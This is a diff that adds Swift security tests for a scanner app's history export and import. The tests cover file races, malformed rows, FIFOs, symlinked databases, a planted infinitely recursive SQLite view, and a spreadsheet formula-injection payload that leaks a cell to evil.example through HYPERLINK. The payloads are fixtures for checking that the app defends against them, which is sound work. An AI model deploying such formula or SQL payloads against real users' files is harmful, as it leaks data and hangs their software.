@@ -194,4 +194,149 @@ struct HistoryCommandTests {
         let aside = try #require(files.first { $0.hasPrefix("history.db.corrupt-") })
         #expect(try String(contentsOfFile: home.dataHome + "/saoma/" + aside, encoding: .utf8) == "not a database")
     }
+
+    @Test("export without --force never replaces a file that appears while the history is read", arguments: ["late.csv", "late.jsonl"])
+    func exportRace(name: String) throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        let target = home.path(name)
+        var failure: String?
+        do {
+            try HistoryCommand.export(to: target, force: false) { () throws(HistoryStoreError) -> [HistoryRecord] in
+                // Another program writes the file after the check, before Saoma puts its own in place.
+                try? Data("theirs".utf8).write(to: URL(fileURLWithPath: target))
+                return [HistoryRecord(timeMilliseconds: 0, source: .cli, format: "QR", text: "mine", bytes: Array("mine".utf8))]
+            }
+        } catch let error as HistoryCommand.Failure {
+            failure = error.message
+        }
+        #expect(failure?.contains("--force") == true, "\(String(describing: failure))")
+        #expect(try String(contentsOfFile: target, encoding: .utf8) == "theirs")
+        #expect(try FileManager.default.contentsOfDirectory(atPath: home.folder).filter { $0.hasSuffix(".tmp") }.isEmpty)
+    }
+
+    @Test("export --force replaces an existing file")
+    func exportForce() throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        _ = try home.fill()
+        let file = home.path("all.csv")
+        try Data("old".utf8).write(to: URL(fileURLWithPath: file))
+        #expect(try home.saoma(["history", "export", file, "--force"]).status == 0)
+        #expect(try String(contentsOfFile: file, encoding: .utf8).hasPrefix(HistoryCSV.header))
+    }
+
+    @Test("formula payloads are exported spreadsheet-safe, and imported back exactly")
+    func formulaRoundTrip() throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        let payloads = [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'kept", "a\u{0}b",
+        ]
+        do {
+            let store = try HistoryStore(path: home.database)
+            for (i, text) in payloads.enumerated() {
+                try store.record(
+                    HistoryRecord(
+                        timeMilliseconds: 1_764_495_000_000 + Int64(i) * 60_000, source: .camera, format: "QR", text: text,
+                        bytes: Array(text.utf8), label: text))
+            }
+        }
+        let original = try HistoryStore(path: home.database).all()
+        let file = home.path("h.csv")
+        #expect(try home.saoma(["history", "export", file]).status == 0)
+        let script = """
+            import csv, json, sys
+            with open(sys.argv[1], newline='', encoding='utf-8') as f:
+                print(json.dumps([[r['text'], r['label']] for r in csv.DictReader(f)]))
+            """
+        let data = Data(try runTool("/usr/bin/python3", ["-c", script, file]).utf8)
+        let cells = try #require(try JSONSerialization.jsonObject(with: data) as? [[String]])
+        #expect(cells.count == payloads.count)
+        for pair in cells {
+            for cell in pair where ["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? "") {
+                Issue.record("a live formula cell: \(cell.debugDescription)")
+            }
+        }
+        #expect(cells.first?.first?.hasPrefix("'=HYPERLINK(") == true)
+        let emptyHome = home.folder + "/empty"
+        #expect(try home.saoma(["history", "import", file], dataHome: emptyHome).status == 0)
+        #expect(exported(try HistoryStore(path: emptyHome + "/saoma/history.db").all()) == exported(original))
+    }
+
+    /// Import files that must add nothing: each refused with its line, the history unchanged.
+    static let refusedImports: [(name: String, contents: String, message: String)] = [
+        (
+            "year0.csv", "time,source,format,text,bytes_hex,label,starred\r\n0000-01-01T00:00:00Z,camera,QR,x,,,false\r\n",
+            "line 2: the time is outside"
+        ),
+        (
+            "negative.csv", "time,source,format,text,bytes_hex,label,starred\r\n-9999-01-01T00:00:00Z,camera,QR,x,,,false\r\n",
+            "line 2: the time is outside"
+        ),
+        (
+            "far.jsonl", "{\"time\":\"+292278994-08-17T07:12:55.807Z\",\"source\":\"camera\",\"format\":\"QR\",\"text\":\"x\"}\n",
+            "line 1: the time is outside"
+        ),
+        (
+            "late-bad-row.csv",
+            "time,source,format,text,bytes_hex,label,starred\r\n"
+                + String(repeating: "2025-11-30T09:30:00Z,camera,QR,fine,,,false\r\n", count: 500)
+                + "2025-11-30T09:30:00Z,camera,QR,x,,,maybe\r\n",
+            "line 502: starred"
+        ),
+        ("no-header.csv", String(repeating: "2025-11-30T09:30:00Z,camera,QR,x,,,false\r\n", count: 2000), "line 1: the header"),
+    ]
+
+    @Test("an import with a bad row anywhere adds nothing and names the line", arguments: refusedImports)
+    func refusedImport(name: String, contents: String, message: String) throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        let before = try home.fill()
+        let file = home.path(name)
+        try Data(contents.utf8).write(to: URL(fileURLWithPath: file))
+        let result = try home.saoma(["history", "import", file])
+        #expect(result.status == 2)
+        #expect(result.err.contains(message), "\(result.err)")
+        #expect(result.err.split(separator: "\n").count == 1)
+        #expect(try HistoryStore(path: home.database).all() == before)
+    }
+
+    @Test("a FIFO is refused without waiting for a writer")
+    func importFIFO() throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        let fifo = home.path("pipe.csv")
+        #expect(mkfifo(fifo, 0o600) == 0)
+        let result = try home.saoma(["history", "import", fifo])
+        #expect(result.status == 2 && result.err.contains("not a regular file"), "\(result.err)")
+    }
+
+    @Test("a symbolic link for history.db is refused with one line; a planted view is moved aside")
+    func hostileDatabase() throws {
+        let home = try HistoryHome()
+        defer { home.remove() }
+        try FileManager.default.createDirectory(atPath: home.dataHome + "/saoma", withIntermediateDirectories: true)
+        let other = home.path("other.db")
+        try runTool("/usr/bin/python3", ["-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1]).execute('CREATE TABLE t(x)')", other])
+        let before = try Data(contentsOf: URL(fileURLWithPath: other))
+        #expect(symlink(other, home.database) == 0)
+        let linked = try home.saoma(["history"])
+        #expect(linked.status == 2 && linked.err.contains("symbolic link"), "\(linked.err)")
+        #expect(linked.err.split(separator: "\n").count == 1)
+        #expect(try Data(contentsOf: URL(fileURLWithPath: other)) == before)
+        try FileManager.default.removeItem(atPath: home.database)
+
+        _ = try home.fill()
+        try runTool(
+            "/usr/bin/python3",
+            [
+                "-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1]).executescript(sys.argv[2])", home.database,
+                "CREATE VIEW spin AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n;",
+            ])
+        let planted = try home.saoma(["history"])
+        #expect(planted.status == 0)
+        #expect(planted.err.contains("moved to") && planted.err.contains("history.db.corrupt-"), "\(planted.err)")
+        #expect(planted.out.isEmpty)
+    }
 }
